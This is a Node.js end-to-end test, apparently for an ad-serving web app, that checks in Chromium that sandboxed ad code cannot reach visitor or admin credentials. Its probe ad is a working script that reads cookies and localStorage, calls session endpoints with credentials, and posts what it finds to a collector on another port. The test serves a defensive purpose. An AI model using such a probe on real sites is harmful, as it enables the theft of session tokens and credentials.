#!/usr/bin/env node
/* global localStorage */
// Proves in Chromium that an ad cannot reach the visitor's or the admin's credentials, wherever
// its document ends up: in the zone's iframe, in a window the ad opens on its own URL, or opened
// top-level through a plain link. Needs backend/dist/main.js and visitor-web/dist (it builds
// nothing) and Chromium (CHROMIUM_PATH, default /usr/bin/chromium). The ad reports what it could read
// to a collector on another port; the run fails if any report holds a secret. Ends with
// "N passed, M failed".
import { mkdtempSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import {
  assert,
  checks,
  chromium as CHROMIUM,
  freePort,
  requireFiles,
  root,
  startEmbeddedApi,
} from './e2e-harness.mjs';

const { chromium } = createRequire(path.join(root, 'package.json'))('playwright-core');
const ADMIN_PASSWORD = 'ad-sandbox-admin-pass';
const serverEntry = path.join(root, 'backend/dist/main.js');

requireFiles([
  ['backend build (npm run build)', serverEntry],
  ['visitor build (npm run build)', path.join(root, 'visitor-web/dist/index.html')],
  ['Chromium', CHROMIUM],
]);

const { counts, check } = checks();
// what the ad reports, by where it ran
const reports = [];
const collectorPort = await freePort();
const collector = http
  .createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      try {
        reports.push(JSON.parse(body));
      } catch {
        /* not a report */
      }
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  })
  .listen(collectorPort, '127.0.0.1');

/** The ad: reads whatever it can, reports it, and (framed) opens its own URL in a new window. */
const probe = `<p id="ad">Probe ad</p><script>
(async function () {
  var where = location.hash === '#popup' ? 'popup' : window.top === window ? 'top-level' : 'framed';
  var r = { where: where, origin: String(self.origin) };
  try { r.cookie = document.cookie; } catch (e) { r.cookie = 'blocked: ' + e.name; }
  try {
    var o = {};
    for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); o[k] = localStorage.getItem(k); }
    r.storage = o;
  } catch (e) { r.storage = 'blocked: ' + e.name; }
  try { var s = await fetch('/api/session', { credentials: 'include' }); r.session = s.status + ' ' + (await s.text()); }
  catch (e) { r.session = 'blocked: ' + e.name; }
  try {
    var a = await fetch('/api/session/adopt', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' });
    r.adopt = a.status + ' ' + (await a.text());
  } catch (e) { r.adopt = 'blocked: ' + e.name; }
  try { r.opener = window.opener ? String(window.opener.localStorage.length) : 'none'; } catch (e) { r.opener = 'blocked: ' + e.name; }
  await fetch('http://127.0.0.1:${collectorPort}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) });
  if (where === 'framed') window.open(location.href.split('#')[0] + '#popup', '_blank');
})();
</script>`;

const work = mkdtempSync(path.join(os.tmpdir(), 'vibe-ad-sandbox-'));
const api = await startEmbeddedApi({
  entry: serverEntry,
  host: '127.0.0.1',
  logFile: path.join(work, 'backend.log'),
  env: { DATA_DIR: path.join(work, 'data'), LOG_LEVEL: 'warn', ADMIN_PASSWORD, VISITOR_WEB_DIR: '', ADMIN_WEB_DIR: '' },
});
const base = api.origin;

let browser;
try {
  await api.healthy();
  const adminBasic = `Basic ${Buffer.from(`admin:${ADMIN_PASSWORD}`).toString('base64')}`;
  const saved = await fetch(`${base}/api/admin/ad-config/zone1`, {
    method: 'POST',
    headers: { authorization: adminBasic, 'content-type': 'application/json' },
    body: JSON.stringify({ zoneName: 'Probe', adCode: probe, isActive: true }),
  });
  assert(saved.ok, `saving the ad answered ${saved.status}`);

  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--disable-popup-blocking',
    ],
  });
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  // what a signed-in visitor who is also the admin has in this origin
  const ADMIN_TOKEN = 'admin-token-that-must-stay-secret-0123456789';
  await context.addCookies([{ name: 'probe_visible', value: 'cookie-that-must-stay-secret', url: base }]);
  const page = await context.newPage();
  const popups = [];
  page.on('popup', (p) => popups.push(p));
  await page.goto(base + '/');
  const stored = await page.waitForFunction(() => localStorage.getItem('hmv.session'), null, { timeout: 30_000 });
  const record = JSON.parse(await stored.jsonValue());
  await page.evaluate((t) => localStorage.setItem('adminToken', t), ADMIN_TOKEN);
  const secrets = [record.sessionId, ADMIN_TOKEN, 'cookie-that-must-stay-secret', record.username];

  await check('the visitor app shows the ad in a frame sandboxed without same-origin or a popup escape', async () => {
    await page.reload();
    const frame = page.locator('iframe.ad-zone__frame');
    await frame.waitFor({ timeout: 30_000 });
    const sandbox = (await frame.getAttribute('sandbox')) ?? '';
    assert(sandbox.split(/\s+/).includes('allow-scripts'), `sandbox="${sandbox}"`);
    assert(!/allow-same-origin|allow-popups-to-escape-sandbox/.test(sandbox), `sandbox="${sandbox}"`);
  });

  // opened top-level, as a plain link to the ad's URL would
  const direct = await context.newPage();
  await direct.goto(`${base}/api/ad-frame/zone1`);

  // the framed ad opens a window on its own URL; wait for the frame's and the direct page's reports
  const ran = () => ['framed', 'top-level'].every((w) => reports.some((r) => r.where === w));
  for (let i = 0; i < 120 && !(ran() && popups.length > 0); i++) await new Promise((r) => setTimeout(r, 250));
  await popups[0]?.waitForLoadState().catch(() => undefined);
  await new Promise((r) => setTimeout(r, 1000)); // a report from the popup, if the ad runs there at all

  const readsNothing = (report) => {
    const text = JSON.stringify(report);
    for (const secret of secrets) assert(!text.includes(secret), `it read "${secret}": ${text}`);
    assert(report.origin === 'null', `it ran with the origin ${report.origin}`);
    assert(typeof report.storage === 'string' || Object.keys(report.storage).length === 0, `storage: ${text}`);
  };
  for (const where of ['framed', 'top-level']) {
    await check(
      `the ad ${where === 'framed' ? 'in its frame' : 'opened top-level by a link'} runs and reads nothing`,
      async () => {
        const report = reports.find((r) => r.where === where);
        assert(report, `the ad never reported from ${where} (its script did not run)`);
        readsNothing(report);
      },
    );
  }
  await check('a window the ad opens on its own URL reads nothing (if the ad can run there at all)', async () => {
    assert(popups.length > 0, 'the ad did not manage to open a window');
    for (const report of reports.filter((r) => r.where === 'popup')) readsNothing(report);
  });
} catch (err) {
  counts.failed++;
  console.log(`FAIL ${err.message}`);
} finally {
  await browser?.close();
  collector.close();
  await api.stop();
  if (counts.failed) console.log(`  backend log: ${api.logFile}`);
  else rmSync(work, { recursive: true, force: true });
}
console.log(`${counts.passed} passed, ${counts.failed} failed`);
process.exit(counts.failed ? 1 : 0);
